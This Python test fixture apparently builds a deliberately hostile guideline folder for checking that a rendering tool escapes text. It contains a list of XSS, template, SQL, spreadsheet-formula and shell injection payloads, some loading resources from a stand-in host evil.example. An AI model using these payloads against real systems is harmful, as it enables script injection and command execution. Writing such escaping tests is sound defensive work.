"""A guideline written by an enemy: every text a reader sees holds something that would like to run."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

RAN = "window.ran=(window.ran||0)+1"
PAYLOADS = [
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{RAN}></SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RAN}>",
    f'"><img src=x onerror="{RAN}">',
    f"'><img src=x onerror='{RAN}'>",
    f"<img src=`x` onerror={RAN}//",
    "<img src=https://evil.example/pixel.png>",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RAN}"><text y=20>here</text></a></svg>',
    f"<svg><foreignObject><body onload={RAN}></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1>#x"/></svg>',
    f"]]><script>{RAN}</script><![CDATA[",
    f"<![CDATA[<script>{RAN}</script>]]>",
    f"--><script>{RAN}</script><!--",
    f"<body onload={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<select autofocus onfocus={RAN}>",
    f"<details open ontoggle={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}>",
    f"<marquee onstart={RAN}>",
    f"<iframe src=\"javascript:parent.{RAN}\"></iframe>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<object data=\"javascript:{RAN}\"></object>",
    f"<embed src=\"javascript:{RAN}\">",
    f"<form action=\"javascript:{RAN}\"><button>go</button></form>",
    f"<a href=\"javascript:{RAN}\">click</a>",
    f"javascript:{RAN}",
    f"jAvAsCrIpT:{RAN}",
    f"java\tscript:{RAN}",
    f"&#106;avascript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    f"vbscript:{RAN}",
    f"[click](javascript:{RAN})",
    "![pixel](https://evil.example/pixel.png)",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "</style><style>*{display:none}</style>",
    "x{background:url(https://evil.example/x)}",
    "expression(alert(1));}*{display:none",
    "{{7*7}}{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}#{window.ran=1}<%= 7*7 %>",
    "{% raw %}{{ config }}{% include 'page.css' %}",
    "\"];evil [URL=\"javascript:window.ran=1\"];x [label=\"",
    "\\\"]; evil -> worse; //",
    "<<b>bold</b>>",
    "<<table href=\"javascript:window.ran=1\"><tr><td>cell</td></tr></table>>",
    "\\N \\G \\E \\L \\l \\r end",
    "}; digraph evil { a -> b }",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "\u2003<script>window.ran=1</script>\u00a0",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "$\\href{javascript:window.ran=1}{x}$ $$\\require{html}$$",
    "__proto__ constructor toString",
    "'; DROP TABLE cases; --",
    "=cmd|' /C calc'!A0",
    "`window.ran=1` $(touch /tmp/ran) ; touch /tmp/ran",
]  # fmt: skip
A_PATHWAY = 16  # nodes in each


def write(folder: Path) -> Path:
    """Write the guideline into a folder: for each payload a parameter, node, statement, disagreement and case."""
    (folder / "statements").mkdir(parents=True)
    (folder / "pathways").mkdir()
    count = len(PAYLOADS)
    files: dict[str, Any] = {
        "guideline.yaml": _front(),
        "parameters.yaml": {"groups": [_group(index) for index in range(0, count, A_PATHWAY)]},
        "criteria.yaml": {"criteria": [_criterion(index) for index in range(count)]},
        "statements/A.yaml": {"source": "A", "statements": [_statement(index) for index in range(count)]},
        "disagreements.yaml": {"disagreements": [_disagreement(index) for index in range(count)]},
        "teaching_cases.yaml": [_case(index) for index in range(count)],
        "pathways/start.yaml": _start(),
    }
    for index in range(0, count, A_PATHWAY):
        files[f"pathways/p{index}.yaml"] = _pathway(index)
    for name, data in files.items():
        (folder / name).write_text(json.dumps(data, indent=1), encoding="utf-8")
    return folder


def _front() -> dict[str, Any]:
    many = "\n".join(PAYLOADS)[:3900]
    source = {"id": "A", "title": PAYLOADS[4], "publisher": PAYLOADS[0], "date": PAYLOADS[9], "review": many,
              "references": {str(index): text for index, text in enumerate(PAYLOADS)}, "note": many}  # fmt: skip
    return {"id": "hostile", "title": PAYLOADS[0], "edition": PAYLOADS[4], "date": PAYLOADS[5], "scope": many,
            "disclaimer": many, "start": "start", "sources": [source]}  # fmt: skip


def _group(first: int) -> dict[str, Any]:
    text = PAYLOADS[first]
    parameters = [_parameter(index) for index in range(first, min(first + A_PATHWAY, len(PAYLOADS)))]
    return {"id": f"g{first}", "title": text, "help": text, "parameters": parameters}


def _parameter(index: int) -> dict[str, Any]:
    text = PAYLOADS[index]
    made: dict[str, Any] = {"id": f"q{index}", "label": text, "question": text, "help": text, "says": text}
    if index % 3 == 0:
        return made | {"kind": "number", "range": [0, 10], "unit": text}
    if index % 3 == 1:
        return made | {"kind": "yes/no", "assume": "no"}
    option = {"label": text, "says": text, "help": text}
    return made | {"kind": "choice", "options": {"yes": option, "no": option | {"label": f"No {text}"}}}


def _holds(index: int) -> str:
    return f"q{index} > 5" if index % 3 == 0 else f"q{index} == yes"


def _criterion(index: int) -> dict[str, Any]:
    return {"id": f"c{index}", "title": PAYLOADS[index], "when": _holds(index), "note": PAYLOADS[index]}


def _statement(index: int) -> dict[str, Any]:
    text = PAYLOADS[index]
    return {"id": f"A-{index}", "section": text, "lines": text, "kind": "criterion", "text": text, "refs": [text, str(index)],
            "strength": text, "note": text, "lost": text, "test": f"c{index}"}  # fmt: skip


def _disagreement(index: int) -> dict[str, Any]:
    text = PAYLOADS[index]
    positions = [{"says": text, "statements": [f"A-{index}"]}, {"says": text, "statements": ["A-0"]}]
    return {"id": f"D{index}", "question": text, "kind": "conflict", "positions": positions, "shown": text}


def _case(index: int) -> dict[str, Any]:
    text = PAYLOADS[index]
    given = {f"q{index}": 7 if index % 3 == 0 else "yes"}
    return {"id": f"T{index}", "title": text, "vignette": text, "given": given, "notice": text}


def _start() -> dict[str, Any]:
    text = PAYLOADS[0]
    firsts = range(0, len(PAYLOADS), A_PATHWAY)
    handovers = [
        {"id": f"h{first}", "handover": f"p{first}", "title": PAYLOADS[first], "text": text} for first in firsts
    ]
    branches = [{"to": f"h{first}", "when": _holds(first), "label": PAYLOADS[first]} for first in firsts]
    first = {"id": "s", "decision": text, "text": text, "choose": "any", "silent": text, "branches": branches}
    return {"id": "start", "title": text, "about": text, "nodes": [first, *handovers]}


def _pathway(first: int) -> dict[str, Any]:
    indexes = range(first, min(first + A_PATHWAY, len(PAYLOADS)))
    branches = [{"to": f"n{i}", "when": _holds(i), "label": PAYLOADS[i], "cites": [f"A-{i}"]} for i in indexes]
    text = PAYLOADS[first]
    root = {
        "id": f"r{first}",
        "decision": text,
        "text": text,
        "choose": "any",
        "ends": text,
        "branches": branches,
    }
    return {"id": f"p{first}", "title": text, "about": text, "nodes": [root, *(_node(i) for i in indexes)]}


def _node(index: int) -> dict[str, Any]:
    text = PAYLOADS[index]
    bar = {"when": f"not ({_holds(index)})", "because": text, "cites": [f"A-{index}"]}
    return {"id": f"n{index}", "recommendation": text, "text": text, "cites": [f"A-{index}"],
            "disagreements": [f"D{index}"], "unless": [bar]}  # fmt: skip
